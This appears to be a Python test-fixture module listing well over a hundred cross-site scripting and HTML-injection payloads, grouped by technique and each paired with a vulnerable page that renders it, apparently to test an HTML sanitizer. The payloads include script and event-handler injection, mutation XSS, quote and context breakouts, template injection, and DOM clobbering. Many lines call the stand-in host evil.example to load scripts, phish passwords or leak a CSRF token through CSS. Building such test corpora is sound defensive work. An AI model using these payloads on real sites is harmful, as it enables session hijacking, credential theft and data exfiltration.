r"""Texts that attack whoever shows them, each way of attack with a careless page in which it would work.

`alert(1)` and `evil.example` in a text are written with the text's own number, so that what runs, what is
fetched and what is shown can be told apart: `alert(17)`, `n17.evil.example`.
"""

from __future__ import annotations

from dataclasses import dataclass

PRODUCT = "62773913"
"""What the template texts come to where somebody evaluates them."""


@dataclass(frozen=True)
class Text:
    """`careless` is a page that writes the text as it is; `works` says that this page is then attacked."""

    number: int
    kind: str
    text: str
    careless: str
    works: bool

    @property
    def marks(self) -> tuple[str, str]:
        """One of them stands in the text."""
        return f"alert({self.number})", f"n{self.number}.evil.example"


IMG = "<img src=x onerror=alert(1)>"

# kind: (the careless page with @ for the text, texts)
_KINDS: dict[str, tuple[str, tuple[str, ...]]] = {
    "script elements": ("@", (
        "<script>alert(1)</script>",
        "<ScRiPt\t>alert(1)</sCrIpT\n>",
        "<script src=https://evil.example/a.js></script>",
        "<script src=//evil.example/b></script>",
        "<script type=module>alert(1)</script>",
        "<script/class=x>alert(1)</script>",
        "<<script>alert(1)//<</script>",
        "<scr<script>alert(1)</script>ipt>",
        "<p><script>alert(1)",
    )),
    "event handlers": ("@", (
        IMG,
        "<body onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source src=x onerror=alert(1)></video>",
        "<img/src/onerror=alert(1)//",
        '<img src=x onerror="&#97;&#108;ert(1)/* alert(1) */">',
        "<img src=x onerror=al\\u0065rt(1);alert(1)>",
        "<b onmouseover=alert(1) style=position:fixed;inset:0>x</b>",
        "<style>@keyframes k{}</style><b style=animation:k onanimationstart=alert(1)>x</b>",
        "<iframe onload=alert(1)></iframe>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<xss\nid=x tabindex=1\nonfocus\n=\nalert(1)>x</xss>",
    )),
    "script addresses": ("@", (
        "<iframe src=javascript:alert(1)></iframe>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" \x01javascript:alert(1)">x</a>',
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
        '<a href="JaVaScRiPt:/*--*/alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<a href="vbscript:alert(1)">x</a>',
        "<form action=javascript:alert(1)><button>x</button></form>",
        "<button form=judge formaction=javascript:alert(1)>x</button>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='data:text/html,<script>alert(1)</script>'></object>",
    )),
    "svg and math": ("@", (
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href='https://evil.example/c.js'/></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
        '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
        "<svg><image href=https://evil.example/i.png /></svg>",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        '<math href="javascript:alert(1)"><mi>x</mi></math>',
        "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    )),
    "markup that mutates": ("@", (
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
        "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<?x <img src=x ?><img src=x onerror=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<select><style></select><img src=x onerror=alert(1)></style>",
        "<b>" * 300 + IMG,
    )),
    "styles": ("@", (
        "<style>@import url(https://evil.example/a.css);</style>",
        "<p style='background:url(https://evil.example/b)'>x</p>",
        "<style>p{background:u\\72l(https://evil.example/c)}</style><p>x</p>",
        "<link rel=stylesheet href=//evil.example/d.css>",
        "<p style=\"background-image:image-set('https://evil.example/e' 1x)\">x</p>",
        "<style>@font-face{font-family:f;src:url(//evil.example/f)}p{font-family:f}</style><p>x</p>",
        "<style>input[value^=a]{background:url(//evil.example/g)}</style><input name=csrf value=ab>",
    )),
    "pages led or framed elsewhere": ("@", (
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<base href=https://evil.example/><img src=here.gif>",
        "<iframe src=https://evil.example/></iframe>",
        "<object data=https://evil.example/o></object>",
        "<embed src=https://evil.example/e>",
        "<form action=https://evil.example/><input name=password></form>",
        "<input type=submit form=judge formaction=https://evil.example/>",
        "<a href=https://evil.example/ target=_blank>Log in again</a>",
    )),
    "pixels that tell": ("@", (
        "<img src=https://evil.example/p.gif width=1 height=1>",
        "<img src='//evil.example/p.gif'>",
        "<img srcset='https://evil.example/q 1x'>",
        "<picture><source srcset=https://evil.example/s><img></picture>",
        "<input type=image src=https://evil.example/i>",
        "<table background=https://evil.example/t><td>x</table>",
        "<video poster=https://evil.example/v></video>",
        "<audio src=https://evil.example/a preload=auto></audio>",
    )),
    "hints to the browser": ("@", (
        "<link rel=dns-prefetch href=//evil.example>",
        "<link rel=preconnect href=https://evil.example>",
        "<link rel=prefetch href=https://evil.example/n>",
        "<link rel=preload as=image href=https://evil.example/l>",
        "<link rel=modulepreload href=https://evil.example/m>",
        "<link rel=icon href=https://evil.example/f>",
    )),
    "attributes of htmx": ("@", (
        "<div hx-on:load='alert(1)'>x</div>",
        "<div hx-get='/logout?evil.example' hx-trigger=load>x</div>",
        "<div data-hx-post='/reviews/1/approve?evil.example' data-hx-trigger=load>x</div>",
        "<div hx-get=/ hx-vals='js:{x: alert(1)}' hx-trigger=load>x</div>",
        "<hx-partial hx-target=#main hx-swap=outerHTML>evil.example</hx-partial>",
        "<meta name=htmx-config content='{\"mode\": \"cors\", \"x\": \"evil.example\"}'>",
        "<div hx-swap-oob=true id=main>evil.example</div>",
    )),
    "what our own scripts read": ("@", (
        "<tr class=row data-href=javascript:alert(1)><td><a class=subject href=#>x</a></tr>"
        "<div class=row data-href=javascript:alert(1)>x</div>",
        "<textarea data-keep=https://evil.example/ data-draft=x>x</textarea>",
        "<form data-action=https://evil.example/ID data-submit-on-change>x</form>",
        "<button data-key=a formaction=https://evil.example/>x</button>",
        "<time data-local datetime=2026-01-01 title=evil.example onclick=alert(1)>x</time>",
        "<p id=here hx-post=https://evil.example/>x</p>",
    )),
    "names that cover ours": ("@", (
        "<form id=htmx><input name=config value=evil.example></form>",
        "<img name=getElementById alt=evil.example>",
        "<a id=sessionStorage href=https://evil.example>x</a>",
        "<form name=body><input name=cookie value=evil.example></form>",
        "<dialog id=help open>evil.example</dialog>",
        "<input name=csrf value=evil.example form=judge>",
    )),
    "out of double quotes": ('<input value="@">', (
        '"><img src=x onerror=alert(1)>',
        '" autofocus onfocus=alert(1) x="',
        '"/><script>alert(1)</script><p title="',
    )),
    "out of single quotes": ("<input value='@'>", (
        "'><img src=x onerror=alert(1)>",
        "' autofocus onfocus=alert(1) x='",
    )),
    "out of no quotes": ("<input value=@>", (
        "><img src=x onerror=alert(1)>",
        "x onfocus=alert(1) autofocus",
        "``onmouseover=alert(1)\x0ctabindex=1",
    )),
    "out of JSON in an attribute": ("<div hx-vals='{\"instead\": \"@\"}'>x</div>", (
        "\"}'><img src=x onerror=alert(1)>",
        "\"}' onmouseover='alert(1)",
    )),
    "out of a script's text": ('<script>var x = "@";</script>', (
        '";alert(1);//',
        "</script><script>alert(1)</script>",
        '\\";alert(1);//"+"',
    )),
    "out of a script's template": ("<script>var x = `@`;</script>", ("${alert(1)}",)),
    "out of an address": ('<iframe src="@"></iframe>', ("javascript:alert(1)", "//evil.example/x")),
    "out of a text field": ("<textarea>@</textarea>", (
        "</textarea><img src=x onerror=alert(1)>",
        "</TEXTAREA\t><script>alert(1)</script>",
    )),
    "out of the title": ("<title>@</title>", ("</title><script>alert(1)</script>",)),
    "out of a style": ("<style>p { color: @ }</style>", ("</style><script>alert(1)</script>",)),
    "out of a comment": ("<!-- @ -->", ("--><script>alert(1)</script><!--",)),
    "out of a choice": ("<select><option>@</select>", ("</option></select><img src=x onerror=alert(1)>",)),
    "long": ("@", (
        "<img " + "a" * 3000 + " src=x onerror=alert(1)>",
        "<p title='" + "x " * 600 + "'><img src=x onerror=alert(1)>",
        *(" ".join(f"d{i}=1" for i in range(450)).join(("<img ", " src=x onerror=alert(1)>")),),
    )),
}  # fmt: skip

_TEMPLATES = (
    "{{ 7919*7927 }} alert(1)",
    "{% if 1 %}{{ 7919*7927 }}{% endif %} alert(1)",
    "{{ [7919, 7927]|first * 7927 }} alert(1)",
)

# Harmless as they stand: they wait for a program that decodes, folds or cleans once too often.
_LURKING = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<scr\u00adipt>alert(1)</scr\u00adipt>",
    "\u202e>tpircs/<(1)trela>tpircs< alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x1b(J<script\x1b(B alert(1)",
    "[x](javascript:alert(1)) ![y](https://evil.example/md.png)",
    "${alert(1)} #{alert(1)} <%= alert(1) %> [[alert(1)]]",
)


def _numbered(number: int, text: str) -> str:
    return text.replace("alert(1)", f"alert({number})").replace("evil.example", f"n{number}.evil.example")


def _every() -> list[Text]:
    found: list[Text] = []

    def add(kind: str, text: str, careless: str, works: bool) -> None:
        number = len(found) + 11
        text = _numbered(number, text)
        found.append(Text(number, kind, text, careless.replace("@", text), works))

    for kind, (careless, texts) in _KINDS.items():
        for text in texts:
            add(kind, text, careless, True)
    for text in _TEMPLATES:
        add("templates", text, "@", True)
    for text in _LURKING:
        add("lurking", text, "@", False)
    return found


EVERY = _every()
FIRST = {text.kind: text for text in reversed(EVERY)}
"""One text of each kind, which works by itself where any of its kind does."""


def batches(size: int) -> list[list[Text]]:
    """All of them, so many at a time; each batch holds texts of several kinds."""
    count = -(-len(EVERY) // size)
    return [EVERY[start::count] for start in range(count)]
